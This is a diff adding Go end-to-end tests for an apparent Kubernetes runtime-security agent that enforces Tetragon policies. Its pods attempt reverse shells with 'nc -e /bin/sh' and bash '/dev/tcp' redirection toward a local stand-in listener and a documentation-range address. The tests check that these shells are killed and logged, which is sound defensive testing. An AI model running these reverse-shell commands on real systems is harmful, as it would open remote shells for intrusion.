@@ -1,0 +1,294 @@
+package k8s
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"net"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/ocigate/ocigate/internal/seeds"
+)
+
+// listener is the stand-in attacker: it sends a command to whoever
+// connects and records whether a shell answered.
+type listener struct {
+	ln       net.Listener
+	conns    atomic.Int32
+	answered atomic.Bool
+}
+
+func listen(t *testing.T, addr string) *listener {
+	t.Helper()
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := &listener{ln: ln}
+	t.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			l.conns.Add(1)
+			go func() {
+				defer c.Close()
+				_, _ = c.Write([]byte("echo OWNED-$((6*7))\n"))
+				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
+				if s, _ := bufio.NewReader(c).ReadString('\n'); strings.Contains(s, "OWNED-42") {
+					l.answered.Store(true)
+				}
+			}()
+		}
+	}()
+	return l
+}
+
+func (l *listener) port() int { return l.ln.Addr().(*net.TCPAddr).Port }
+
+// TestHelmInstall installs the chart with Helm (go tool helm) and waits
+// for the DaemonSet's pod to be ready: its probes pass only when the
+// agent answers and every point enforces.
+func TestHelmInstall(t *testing.T) {
+	root, _ := filepath.Abs("../..")
+	cmd := exec.Command("go", "tool", "helm", "upgrade", "--install", "ocigate", filepath.Join(root, "deploy/ocigate"),
+		"--namespace", cluster.ns, "--create-namespace", "-f", cluster.values, "--wait", "--timeout", "3m")
+	cmd.Dir = root
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("helm install: %v\n%s", err, out)
+	}
+	kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
+}
+
+// TestReverseShellPodStopped: busybox nc -e and bash's /dev/tcp from
+// pods are stopped by the default profile; the listener gets no shell
+// and the event names the pod and its namespace.
+func TestReverseShellPodStopped(t *testing.T) {
+	ns := namespace(t, cluster.prefix+"-revshell")
+	l := listen(t, "127.0.0.1:0")
+	labels := map[string]string{"app": "revshell"}
+	for _, p := range []podSpec{
+		{ns: ns, name: "nc-e", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: labels,
+			script: fmt.Sprintf("sleep 1; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())},
+		{ns: ns, name: "bash-dev-tcp", image: "bash", shell: "/bin/bash", hostNetwork: true, labels: labels,
+			script: fmt.Sprintf("sleep 1; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1; echo rc=$?", l.port())},
+	} {
+		_, logs := run(t, p)
+		if !strings.Contains(logs, "rc=137") {
+			t.Errorf("%s: the shell was not killed: %q", p.name, logs)
+		}
+		// The pod object as Tetragon's: names, labels, owning workload.
+		ev := waitEvent(t, ns, p.name, map[string]string{"action": "KPROBE_ACTION_SIGKILL", "policy_name": "reverse-shell",
+			"process.pod.pod_labels.app": "revshell", "process.pod.workload": p.name, "process.pod.workload_kind": "Pod"})
+		t.Logf("%s: %v %v in pod %v/%v", p.name, ev["function_name"], ev["action"],
+			field(ev, "process", "pod", "namespace"), field(ev, "process", "pod", "name"))
+	}
+	if l.answered.Load() {
+		t.Errorf("a shell answered the listener")
+	}
+}
+
+const denyLoopback2 = `apiVersion: cilium.io/v1alpha1
+kind: TracingPolicyNamespaced
+metadata: {name: deny-127-0-0-2, namespace: %s}
+spec:
+  podSelector: {matchLabels: {app: web}}
+  kprobes:
+  - call: tcp_connect
+    syscall: false
+    args: [{index: 0, type: sock}]
+    selectors:
+    - matchArgs: [{index: 0, operator: DAddr, values: ["127.0.0.2/32"]}]
+      matchActions: [{action: Override, argError: -1}]
+`
+
+// TestNamespacedPolicyStaysInItsNamespace: a TracingPolicyNamespaced in
+// namespace A refuses the selected pods' connects there; the same pod
+// in namespace B connects. It logs the time from kubectl apply to the
+// policy's status saying it is loaded on the node.
+func TestNamespacedPolicyStaysInItsNamespace(t *testing.T) {
+	a, b := namespace(t, cluster.prefix+"-a"), namespace(t, cluster.prefix+"-b")
+	l := listen(t, "127.0.0.2:0")
+	kubectl(t, fmt.Sprintf(denyLoopback2, a), "apply", "-f", "-")
+	took := policyLoaded(t, "tracingpoliciesnamespaced", a, "deny-127-0-0-2")
+	t.Logf("kubectl apply to loaded on the node: %v", took)
+	script := fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.port())
+	web := map[string]string{"app": "web"}
+	_, logs := run(t, podSpec{ns: a, name: "web", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: web, script: script})
+	if strings.Contains(logs, "rc=0") || l.conns.Load() != 0 {
+		t.Errorf("namespace %s: the connect was not refused: %q, %d connections", a, logs, l.conns.Load())
+	}
+	waitEvent(t, a, "web", map[string]string{"policy_name": a + ".deny-127-0-0-2", "function_name": "tcp_connect"})
+	_, logs = run(t, podSpec{ns: b, name: "web", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: web, script: script})
+	if !strings.Contains(logs, "rc=0") || l.conns.Load() != 1 {
+		t.Errorf("namespace %s: the policy of %s touched it: %q, %d connections", b, a, logs, l.conns.Load())
+	}
+	if evs := events(t, b, "web"); hasPolicy(evs, a+".deny-127-0-0-2") {
+		t.Errorf("namespace %s has events of %s's policy", b, a)
+	}
+	relabel(t, a, l)
+}
+
+// relabel: a running pod that the policy does not select gets the
+// label it selects; the agent moves it to the generated profile and its
+// next connect is refused.
+func relabel(t *testing.T, ns string, l *listener) {
+	t.Helper()
+	script := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.port())
+	kubectl(t, podSpec{ns: ns, name: "relabel", image: "busybox", shell: "/bin/sh", hostNetwork: true,
+		labels: map[string]string{"app": "other"}, script: script}.manifest(), "apply", "-f", "-")
+	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/relabel", "--timeout=60s")
+	id := strings.TrimPrefix(kubectl(t, "", "-n", ns, "get", "pod", "relabel", "-o", "jsonpath={.status.containerStatuses[0].containerID}"), "containerd://")
+	if p := profileOf(t, id); strings.HasPrefix(p, "k8s-") {
+		t.Fatalf("before the label change the pod has profile %s", p)
+	}
+	start := time.Now()
+	kubectl(t, "", "-n", ns, "label", "pod", "relabel", "app=web", "--overwrite")
+	eventually(t, 30*time.Second, "the relabelled pod moves to the generated profile", func() error {
+		if p := profileOf(t, id); !strings.HasPrefix(p, "k8s-") {
+			return fmt.Errorf("profile %q", p)
+		}
+		return nil
+	})
+	t.Logf("kubectl label to the pod's new profile: %v", time.Since(start).Round(time.Millisecond))
+	conns := l.conns.Load()
+	kubectl(t, "", "-n", ns, "exec", "relabel", "--", "touch", "/tmp/go")
+	kubectl(t, "", "-n", ns, "wait", "--for=jsonpath={.status.phase}=Succeeded", "pod/relabel", "--timeout=30s")
+	if logs := kubectl(t, "", "-n", ns, "logs", "relabel"); strings.Contains(logs, "rc=0") || l.conns.Load() != conns {
+		t.Errorf("after the label change the connect was not refused: %q", logs)
+	}
+}
+
+// profileOf asks the agent which profile a container has.
+func profileOf(t *testing.T, id string) string {
+	t.Helper()
+	out := kubectl(t, "", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
+		"/ocigate-agentd", "status", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
+	var st struct {
+		Workloads []struct {
+			ContainerID string `json:"container_id"`
+			Profile     string `json:"profile"`
+		} `json:"workloads"`
+	}
+	if err := json.Unmarshal([]byte(out), &st); err != nil {
+		t.Fatalf("agent status: %v", err)
+	}
+	for _, w := range st.Workloads {
+		if w.ContainerID == id {
+			return w.Profile
+		}
+	}
+	t.Fatalf("the agent does not list container %s", id)
+	return ""
+}
+
+func hasPolicy(evs []map[string]any, name string) bool {
+	for _, ev := range evs {
+		if ev["policy_name"] == name {
+			return true
+		}
+	}
+	return false
+}
+
+// TestBadPolicyRefusedNamingField: a policy the agent cannot carry out
+// is refused in its status, naming the field, and what was enforced
+// before stays.
+func TestBadPolicyRefusedNamingField(t *testing.T) {
+	bad := "apiVersion: cilium.io/v1alpha1\nkind: TracingPolicy\nmetadata: {name: " + cluster.prefix + "-bad}\n" +
+		"spec:\n  kprobes:\n  - call: tcp_connect\n    selectors:\n    - matchActions: [{action: Nope}]\n"
+	kubectl(t, bad, "apply", "-f", "-")
+	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "tracingpolicy", cluster.prefix+"-bad") })
+	var msg string
+	eventually(t, 30*time.Second, "status of the bad policy", func() error {
+		out, err := kubectlErr("", "get", "tracingpolicy", cluster.prefix+"-bad", "-o", "jsonpath={.status.nodes."+cluster.node+".state}|{.status.nodes."+cluster.node+".message}")
+		if err != nil || !strings.HasPrefix(out, "failed|") {
+			return fmt.Errorf("status %q (%v)", out, err)
+		}
+		msg = out
+		return nil
+	})
+	if !strings.Contains(msg, "spec.kprobes[0]") {
+		t.Errorf("the refusal does not name the field: %s", msg)
+	}
+	t.Logf("refused: %s", msg)
+	kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=10s")
+}
+
+// TestSeedPoliciesWithKubectl: the seven seed TracingPolicies, applied
+// unchanged with kubectl, report the events the single-host e2e test
+// TestSeedEnforceDeniesReverseShellConnect expects.
+func TestSeedPoliciesWithKubectl(t *testing.T) {
+	dir := t.TempDir()
+	files, err := seeds.WriteDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	kubectl(t, "", "apply", "-f", dir)
+	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "-f", dir) })
+	for _, f := range files {
+		out := kubectl(t, "", "get", "-f", f, "-o", "jsonpath={.metadata.name}")
+		policyLoaded(t, "tracingpolicy", "", out)
+	}
+	ns := namespace(t, cluster.prefix+"-seeds")
+	_, logs := run(t, podSpec{ns: ns, name: "seed-enforce", image: "busybox", shell: "/bin/sh",
+		script: "/usr/bin/nc -w 2 203.0.113.7 4444; echo rc=$?"})
+	if strings.Contains(logs, "unreachable") || strings.Contains(logs, "rc=0") {
+		t.Errorf("the connect was not stopped: %q", logs)
+	}
+	waitEvent(t, ns, "seed-enforce", map[string]string{
+		"function_name": "tcp_connect", "action": "KPROBE_ACTION_SIGKILL", "policy_name": "enforce-no-reverse-shell",
+		"process.binary": "/usr/bin/nc", "args.0.sock_arg.daddr": "203.0.113.7"})
+	waitEvent(t, ns, "seed-enforce", map[string]string{"policy_name": "detect-reverse-shell-outbound", "action": "KPROBE_ACTION_POST"})
+}
+
+const imageProfile = `apiVersion: ocigate.io/v1alpha1
+kind: WorkloadProfile
+metadata: {name: %[1]s-bash-no-127-0-0-2}
+spec:
+  match:
+    images: ["localhost/%[1]s/bash:1"]
+  mode: enforce
+  failurePolicy: closed
+  policies:
+  - name: reverse-shell
+  - inline:
+      metadata: {name: %[1]s-bash-no-127-0-0-2}
+      spec:
+        kprobes:
+        - call: tcp_connect
+          syscall: false
+          args: [{index: 0, type: sock}]
+          selectors:
+          - matchArgs: [{index: 0, operator: DAddr, values: ["127.0.0.2/32"]}]
+            matchActions: [{action: Override, argError: -1}]
+`
+
+// TestWorkloadProfileByImage: a WorkloadProfile applied with kubectl
+// chooses pods by image, as the same file does on a single host.
+func TestWorkloadProfileByImage(t *testing.T) {
+	ns := namespace(t, cluster.prefix+"-image")
+	l := listen(t, "127.0.0.2:0")
+	name := cluster.prefix + "-bash-no-127-0-0-2"
+	kubectl(t, fmt.Sprintf(imageProfile, cluster.prefix), "apply", "-f", "-")
+	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "workloadprofile", name) })
+	policyLoaded(t, "workloadprofile", "", name)
+	_, logs := run(t, podSpec{ns: ns, name: "bash", image: "bash", shell: "/bin/bash", hostNetwork: true,
+		script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.2/%d; echo rc=$?", l.port())})
+	if strings.Contains(logs, "rc=0") || l.conns.Load() != 0 {
+		t.Errorf("the bash image's connect was not refused: %q", logs)
+	}
+	waitEvent(t, ns, "bash", map[string]string{"policy_name": name, "function_name": "tcp_connect"})
+	_, logs = run(t, podSpec{ns: ns, name: "busybox", image: "busybox", shell: "/bin/sh", hostNetwork: true,
+		script: fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.port())})
+	if !strings.Contains(logs, "rc=0") || l.conns.Load() != 1 {
+		t.Errorf("the profile of the bash image touched a busybox pod: %q", logs)
+	}
+}
